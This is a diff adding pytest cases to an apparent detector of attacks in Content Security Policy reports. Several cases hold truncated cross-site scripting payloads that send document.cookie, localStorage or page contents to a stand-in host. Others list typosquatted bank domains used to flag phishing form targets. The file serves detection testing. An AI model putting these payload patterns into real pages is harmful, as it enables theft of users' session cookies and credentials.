@@ -121,6 +121,77 @@ def test_ordinary_code_is_nobodys_signature(sample: str) -> None:
     assert not hides_ads(sample)
 
 
+@pytest.mark.parametrize(
+    "sample, sends",
+    [
+        ("this.src='//c.example.net/?'+docum", True), ("fetch('https://c.example.net/?'+localSto", True),
+        ("fetch(`//c.example.net/${document.cookie}", True),
+        ("location='//c.example.net/'+btoa(documen", True), ("new Image().src='//c.example.net/?c='+esca", False),
+        ("this.src='//c.example.net/?'+doc", False), ("this.src='/fallback.png'+document.cookie", False),
+        ("this.src='//cdn.shop.example/?'+document", False),
+        ("i.src='//c.example.net/h?'+document.refer", False), ("fetch('//api.stripe.com/?'+document.body", False),
+        ("this.src='//c.example.net/a.png'", False),
+    ],
+)  # fmt: skip
+def test_code_that_hands_the_pages_data_to_a_stranger_is_an_attack(sample: str, sends: bool) -> None:
+    report = {**INLINE, "source-file": "https://shop.example/page", "line-number": "140", "script-sample": sample}
+    assert ("xss-sends" in fired(report)) is sends
+    assert (judged(report).verdict == "attack") is (sends or "document.cookie" in sample)
+
+
+@pytest.mark.parametrize(
+    "page, directive, host, alike",
+    [
+        ("/login", "form-action", "marlowbank.invalid", True), ("/login", "form-action", "online-marlowbank.invalid", True),
+        ("/signin", "connect-src", "marlow-bank.invalid", True), ("/login", "script-src-elem", "marlowbanksecure.invalid", True),
+        ("/login", "connect-src", "marlowbamk.invalid", True), ("/login", "connect-src", "rnarlowbank.invalid", True),
+        ("/login", "form-action", "online.marlowbank.example.evil.invalid", True), ("/checkout", "form-action", "marlowbank.invalid", True),
+        ("/accounts/2fa", "form-action", "marlowbank-login.web.app", True), ("/news", "form-action", "marlowbank.invalid", False),
+        ("/login", "img-src", "marlowbank.invalid", False), ("/login", "form-action", "accounts.google.com", False),
+        ("/login", "connect-src", "secure.marlowbank.example", False), ("/login", "script-src-elem", "marlowbank-cdn.invalid", False),
+        ("/login", "script-src-elem", "marlowbank.firebaseapp.com", False), ("/login", "connect-src", "marlowbank-rtdb.web.app", False),
+        ("/login", "connect-src", "marlowbank.auth0.com", False), ("/authors/1", "connect-src", "marlowbank.invalid", False),
+    ],
+)  # fmt: skip
+def test_a_host_that_looks_like_the_pages_own_where_people_sign_in(page: str, directive: str, host: str, alike: bool) -> None:
+    document = f"https://online.marlowbank.example{page}"
+    report = {"document-uri": document, "effective-directive": directive, "blocked-uri": f"https://{host}/s"}
+    assert ("lookalike-own" in fired(report)) is alike
+    if alike:
+        assert (judged(report).verdict, judged(report).confidence) == ("attack", "likely")
+        known = {**report, "original-policy": f"default-src 'self' https://{host}; report-uri /csp"}
+        assert "lookalike-own" not in fired(known)
+
+
+TEXT_STYLE, PDF_STYLE = "word-wrap: break-word; white-space: pre-", "height: 100%; width: 100%; overflow: hid"
+
+
+@pytest.mark.parametrize(
+    "path, sample, viewed",
+    [
+        ("/robots.txt", TEXT_STYLE, True), ("/sitemap.xml", TEXT_STYLE, True), ("/feed/", TEXT_STYLE, True), ("/a.json", TEXT_STYLE, True),
+        ("/a.pdf", PDF_STYLE, True), ("/a.PDF", "", True), ("/a.html", PDF_STYLE, False), ("/a.txt", PDF_STYLE, False),
+        ("/feed/", "color:red", False), ("/notes", TEXT_STYLE, False), ("/a.pdf", "height:40px", False), ("/a.pdf/edit", PDF_STYLE, False),
+    ],
+)  # fmt: skip
+def test_only_the_viewers_own_style_on_a_file_is_the_browsers(path: str, sample: str, viewed: bool) -> None:
+    report = {"effective-directive": "style-src-attr", "blocked-uri": "inline", "script-sample": sample}
+    assert ("viewer" in fired({**report, "document-uri": f"https://shop.example{path}"})) is viewed
+
+
+@pytest.mark.parametrize(
+    "agent, file, theirs",
+    [
+        ("[FBAN/FBIOS;FBAV/528]", "en_US/iab.autofill.enhanced.js", True), ("[FBAN/FBIOS;FBAV/528]", "en_US/fbevents.js", False),
+        ("Instagram 391.0.0.41", "en_US/iab.js?v=2", True), ("Instagram 391.0.0.41", "en_US/sdk.js", False),
+        ("Line/13.0", "en_US/iab.js", False), ("", "en_US/iab.js", False), ("Instagram 391.0.0.41", "en_US/iabulous.js", False),
+    ],
+)  # fmt: skip
+def test_metas_bridge_is_an_apps_only_in_metas_apps(agent: str, file: str, theirs: bool) -> None:
+    report = {"effective-directive": "script-src-elem", "blocked-uri": f"https://connect.facebook.net/{file}"}
+    assert ("in-app-script" in fired({**report, "user-agent": f"Mozilla/5.0 (iPhone) Mobile/15E148 {agent}"})) is theirs
+
+
 @pytest.mark.parametrize("scheme", schemes.EXTENSION)
 @pytest.mark.parametrize("spelling", ["{}", "{}:", "{}://", "{}:2:248774", "{}://abcdefgh/x.js"])
 @pytest.mark.parametrize("field", ["blocked-uri", "source-file"])
